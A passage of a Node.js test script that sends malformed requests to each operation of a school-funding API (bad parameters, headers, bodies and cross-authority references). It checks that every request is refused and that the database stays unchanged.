  const group = await made('/v1/consortia', { la_code: code, name: 'Sweep Other Consortium' });
  await made('/v1/memberships', { group_id: group.id, school_urn: urn, start_date: '2020-09-01' });
  const fund = await made('/v1/funds', { la_code: code, kind: 'other', name: 'Sweep Other Fund',
    academic_year: '2020/21', pot_pence: 100 });
  // a calendar feed, whose secret address is the only way to aim at GET /v1/calendars/{secret}
  const calendar = await made('/v1/calendar-feeds', { la_code: code, name: 'Sweep Other Calendar' });
  return { code, school: urn, area: area.id, group: group.id, fund: fund.id, calendar: calendar.url };
}
let foreign = null;

// ------------------------------------------------------------------ one operation

const notSwept = [];
const swept = [];

async function sweep(o) {
  const aimed = await aim(o);
  if (aimed.error) { notSwept.push({ o, why: aimed.error }); return; }
  const ifMatch = o.ifMatch ? await etagOf(aimed.itemPath) : null;
  if (o.ifMatch && !ifMatch) { notSwept.push({ o, why: `no ETag from GET ${aimed.itemPath}` }); return; }
  const good = await baseBody(o);
  const csv = !o.jsonMedia && o.media.includes('text/csv');
  const form = o.media.includes('application/x-www-form-urlencoded');

  // The query every request carries: required parameters, valid.
  const baseQuery = {};
  for (const p of o.query) if (p.required) baseQuery[p.name] = String(validValue(p.schema ?? {}));
  if (o.key === 'GET /v1/reports/authority') {
    const las = (await listOf('/v1/local-authorities')) ?? [];
    if (las.length) baseQuery.la = String(las[0].code);
  }
  const qs = (q, extra = '') => {
    const parts = Object.entries(q).map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`);
    if (extra) parts.push(extra);
    return parts.length ? `?${parts.join('&')}` : '';
  };

  const headersFor = ({ contentType, im = ifMatch, idem = true } = {}) => {
    const h = {};
    if (!o.isPublic) h.Authorization = `Bearer ${token}`;
    if (o.ifMatch) h['If-Match'] = im;
    if (o.idempotent && idem) h['Idempotency-Key'] = `sweep-${randomUUID()}`;
    if (contentType) h['Content-Type'] = contentType;
    return h;
  };
  // The valid body, as text, with its media type.
  const goodBody = () => {
    if (o.jsonMedia) return { body: toJson(good), contentType: o.jsonMedia };
    if (csv) return { body: CSV_HEADER, contentType: 'text/csv' };
    return {};
  };
  // The requests are made first and sent at the end, CONCURRENCY at a time.
  const queue = [];
  const send = (spec) => { queue.push(spec); };

  const isToken = o.key === 'POST /v1/auth/token';
  const expectBody = isToken ? [400, 401, 413, 415, 429] : [400, 413, 422];
  const expectQuery = [400];

  // -- path parameters
  for (const p of o.path) {
    for (const v of PATH_FAULTS) {
      const path = o.tpl.replace(`{${p.name}}`, v);
      const { body, contentType } = goodBody();
      // An If-Match no record has: a path misread as a real id answers 412, not a change.
      send({ path, query: qs(baseQuery), headers: headersFor({ contentType, im: '"999999999"' }), body,
        what: `path ${p.name} = ${v}`, expect: [400, 404] });
    }
  }

  // -- query parameters
  const unknown = [['no_such_param=1', 'unknown parameter no_such_param'],
    ...INJECTION_NAMES.map((n) => [`${encodeURIComponent(n)}=1`, `unknown parameter named ${show(n)}`]),
    ['no_such_param=1&no_such_param=2', 'unknown parameter twice'],
    ['%zz=1', 'bad percent-encoding in a name'], ['x=%ff', 'a value that is not UTF-8'],
    ['x=%e2%82', 'a truncated UTF-8 value'], ['x=%', 'a lone %']];
  for (const [extra, what] of unknown) {
    const { body, contentType } = goodBody();
    send({ path: aimed.path, query: qs(baseQuery, extra), headers: headersFor({ contentType }), body,
      what, expect: expectQuery });
  }
  {
    const many = Array.from({ length: 33 }, (_, i) => `p${i}=1`).join('&');
    const { body, contentType } = goodBody();
    send({ path: aimed.path, query: qs(baseQuery, many), headers: headersFor({ contentType }), body,
      what: '33 parameters', expect: expectQuery });
  }
  for (const p of o.query) {
    const valid = String(validValue(p.schema ?? {}));
    const faults = queryFaults(p);
    faults.push({ what: 'repeated', repeat: true });
    if (p.required) faults.push({ what: 'required, left out', omit: true });
    for (const f of faults) {
      const q = { ...baseQuery };
      let extra = '';
      if (f.omit) delete q[p.name];
      else if (f.repeat) { q[p.name] = valid; extra = `${encodeURIComponent(p.name)}=${encodeURIComponent(valid)}`; }
      else q[p.name] = f.value;
      if (f.combine) extra = 'no_such_param=1';
      const { body, contentType } = goodBody();
      const query = qs(q, extra);
      // a request target past the server's MAX_URI_BYTES is refused whole, before its parameters
      send({ path: aimed.path, query, headers: headersFor({ contentType }), body,
        what: `query ${p.name}: ${f.what}${f.combine ? ' (with an unknown parameter)' : ''}`,
        expect: (aimed.path + query).length > MAX_URI_BYTES ? [414] : expectQuery });
    }
  }

  // -- headers: Accept, Idempotency-Key
  for (const h of o.headers) {
    if (h.name.toLowerCase() === 'accept') {
      for (const v of ['application/xml', 'image/png', 'text/csv;q=0, application/json;q=0']) {
        const s = resolve(h.schema ?? {});
        if (s.enum?.includes(v)) continue;
        const { body, contentType } = goodBody();
        send({ path: aimed.path, query: qs(baseQuery), headers: { ...headersFor({ contentType }), Accept: v },
          body, what: `Accept: ${v}`, expect: [406] });
      }
    }
  }
  if (o.idempotent) {
    // Header values go out as bytes: 'cl\u00c3\u00a9' is the UTF-8 of "clé", 'cl\u00e9' one Latin-1 byte.
    const keys = [['has space', 'with a space'], ['x'.repeat(201), '201 characters'],
      ['cl\u00c3\u00a9', '"clé" in UTF-8'], ['cl\u00e9', '"clé" in Latin-1 (not UTF-8)'], ['tab\there', 'with a tab'],
      ['', 'empty']];
    for (const [v, what] of keys) {
      const { body, contentType } = goodBody();
      send({ path: aimed.path, query: qs(baseQuery),
        headers: { ...headersFor({ contentType, idem: false }), 'Idempotency-Key': v },
        body, what: `Idempotency-Key ${what}`, expect: [400] });
    }
  }

  // -- bodies that are not what the route takes
  if (o.body) {
    const q = qs(baseQuery);
    const raw = (body, contentType, what, expect) => send({ path: aimed.path, query: q,
      headers: headersFor({ contentType }), body, what, expect });
    if (csv) {
      raw('', 'text/csv', 'empty CSV body', [422]);
      raw('a,b\r\n1,2\r\n', 'text/csv', 'CSV that is not an extract', [422]);
      raw(CSV_HEADER, 'application/json', 'an extract as application/json', [415]);
      raw(CSV_HEADER, 'text/csv; charset=koi8-r', 'an extract in an unknown charset', [415]);
      raw('{"a": 1}', 'text/csv', 'JSON as text/csv', [422]);
      raw(Buffer.from([0xff, 0xfe, 0x00, 0x00, 0x00, 0x41]), 'text/csv', 'binary as text/csv', [400, 422]);
    } else {
      const ct = o.jsonMedia ?? 'application/json';
      const goodText = toJson(good ?? {});
      const dup = goodText.length > 2 ? goodText.replace(/^\{("[^"]*":)/, (m, k) => `{${k}1,${k}`) : '{"x":1,"x":1}';
      raw('not json', ct, 'a body that is not JSON', [400]);
      raw('{"a": ', ct, 'truncated JSON', [400]);
      raw('<a>1</a>', ct, 'XML as JSON', [400]);
      raw('', ct, 'an empty body', [400]);
      raw('[]', ct, 'an empty JSON array', [400]);
      raw(`[${goodText}]`, ct, 'the body in a JSON array', [400]);
      raw('null', ct, 'JSON null', [400]);
      raw('"text"', ct, 'a JSON string', [400]);
      raw('42', ct, 'a JSON number', [400]);
      raw(dup, ct, 'a key given twice', [400]);
      raw('['.repeat(5000) + ']'.repeat(5000), ct, 'JSON nested 5000 deep', [400]);
      raw(`\ufeff${goodText}`, ct, 'JSON after a byte order mark', [400]);
      raw(Buffer.concat([Buffer.from('{"x": "'), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('"}')]), ct,
        'bytes that are not UTF-8', [400]);
      raw(goodText, 'text/plain', 'JSON sent as text/plain', isToken ? [400, 401, 415] : [415]);
      raw(goodText, 'application/xml', 'JSON sent as application/xml', isToken ? [400, 401, 415] : [415]);
      raw(goodText, undefined, 'JSON with no Content-Type', isToken ? [400, 401, 415] : [415]);
      if (form) {
        raw('grant_type=password', 'application/x-www-form-urlencoded', 'form: another grant type', [400]);
        raw('grant_type=client_credentials&grant_type=client_credentials', 'application/x-www-form-urlencoded',
          'form: a parameter twice', [400]);
        raw('grant_type=%zz', 'application/x-www-form-urlencoded', 'form: bad percent-encoding', [400]);
        raw('client_id=x', 'application/x-www-form-urlencoded', 'form: no grant_type', [400]);
      }
    }
  }

  // -- every field of a JSON body
  if (o.bodySchema) {
    const faults = objectFaults(o.bodySchema, [], o.method === 'PATCH');
    // An unknown field is allowed where the schema says so (the token request).
    const open = resolve(o.bodySchema).additionalProperties !== false;
    for (const f of faults) {
      if (f.combine && open) continue;
      const body = applyFault(o.bodySchema, good, f);
      send({ path: aimed.path, query: qs(baseQuery),
        headers: headersFor({ contentType: o.jsonMedia }), body: toJson(body),
        what: `body ${f.what}${f.combine ? ' (with an unknown field)' : ''}`, expect: expectBody,
        field: f.combine || isToken ? undefined : String(f.path[0]) });
    }
  }

  // -- another LA's record in a field that names one
  if (o.bodySchema && foreign && !(o.key in FOREIGN_EXEMPT)) {
    const props = resolve(o.bodySchema).properties ?? {};
    const refs = Object.keys(props).filter((k) => k in FOREIGN_FIELDS);
    if (o.path.length > 0 || refs.length >= 2) {
      // on a create, only where another reference in the body ties the record to its LA
      for (const k of refs.filter((r) => o.path.length > 0 || refs.some((x) => x !== r && good?.[x] != null))) {
        send({ path: aimed.path, query: qs(baseQuery), headers: headersFor({ contentType: o.jsonMedia }),
          body: toJson({ ...(good ?? {}), [k]: FOREIGN_FIELDS[k](foreign) }),
          what: `body ${k}: a record of another LA`, expect: [422], field: k });
      }
    }
  }

  let next = 0;
  const worker = async () => {
    while (next < queue.length) {
      const r = await bad(o, queue[next++]);
      // The server took it (a failure already): the record's ETag moved on.
      if (r && r.status < 300 && aimed.itemPath) etags.delete(aimed.itemPath);
    }
  };
  await Promise.all(Array.from({ length: CONCURRENCY }, worker));
  swept.push(o);
}

// ------------------------------------------------------------------ main

foreign = await foreignRecords();
const before = fingerprint();
try {
  for (const o of operations) {
    if (only && !only.test(o.key)) continue;
    await sweep(o);
  }
} finally {
  flushLog();
}
const after = fingerprint();

const changed = [];
for (const t of new Set([...before.out.keys(), ...after.out.keys()])) {
  if (before.out.get(t) !== after.out.get(t)) changed.push(`${t}: ${before.out.get(t) ?? '(none)'} -> ${after.out.get(t) ?? '(none)'}`);
}

const selected = operations.filter((o) => !only || only.test(o.key));
console.log(`sweep: ${swept.length} of ${selected.length} operations swept, ${sent} bad requests sent ` +
  `in ${((Date.now() - started) / 1000).toFixed(1)} s`);
console.log(`sweep: fingerprinted ${before.tables.length - Object.keys(FINGERPRINT_EXCLUDED).length} tables; excluded: ` +
  Object.entries(FINGERPRINT_EXCLUDED).map(([t, why]) => `${t} (${why})`).join('; ') + '; only rows where ' +
  Object.entries(FINGERPRINT_FILTERED).map(([t, where]) => `${t}: ${where}`).join('; '));
for (const { o, why } of notSwept) console.log(`NOT SWEPT ${o.key}: ${why}`);
for (const k of offState) console.log(`note: ${k} was aimed at a record in another state than it acts on`);
if (unnamed.length) {
  console.log(`note: ${unnamed.length} refusals of a bad field did not name it in errors[], e.g.:`);
  for (const u of unnamed.slice(0, 5)) console.log(`  ${u.o.key}: ${u.what} -> ${u.body.slice(0, 300)}`);
}
if (changed.length) {
  console.log('DATABASE CHANGED:');
  for (const c of changed) console.log(`  ${c}`);
}
if (failures.length) {
  const byOp = new Map();
  for (const f of failures) byOp.set(f.o.key, (byOp.get(f.o.key) ?? 0) + 1);
  const byKind = new Map();
  for (const f of failures) byKind.set(f.what, (byKind.get(f.what) ?? 0) + 1);
  console.log(`\n${failures.length} refusals were wrong; by what was sent:`);
  for (const [k, n] of [...byKind].sort((a, b) => b[1] - a[1])) console.log(`  ${String(n).padStart(5)}  ${k}`);
  console.log(`in ${byOp.size} operations: ${[...byOp].map(([k, n]) => `${k} (${n})`).join(', ')}\n`);
  const cut = (t, n) => (t.length > n ? `${t.slice(0, n)}...(${t.length} bytes)` : t);
  for (const f of failures.slice(0, 50)) {
    const body = String(f.body ?? '');
    console.log(`FAIL ${f.o.method} ${cut(f.url, 200)}`);
    console.log(`     sent: ${f.what}`);
    if (f.sentBody !== undefined) console.log(`     with: ${cut(Buffer.isBuffer(f.sentBody) ? f.sentBody.toString('latin1') : String(f.sentBody), 200)}`);
    console.log(`     got:  ${f.status}${f.why ? ` (${f.why.join('; ')})` : ''}`);
    console.log(`     body: ${cut(body, 400)}`);
  }
  if (failures.length > 50) console.log(`... and ${failures.length - 50} more`);
}
if (process.env.SWEEP_DUMP) {
  appendFileSync(process.env.SWEEP_DUMP, failures.map((f) => JSON.stringify({ op: f.o.key, url: f.url.slice(0, 300),
    what: f.what, status: f.status, why: f.why, body: String(f.body ?? '').slice(0, 300) })).join('\n') + '\n');
}
const ok = failures.length === 0 && notSwept.length === 0 && changed.length === 0;
console.log(ok ? 'sweep: every bad request was refused and nothing changed' : 'sweep: FAILED');
process.exit(ok ? 0 : 1);
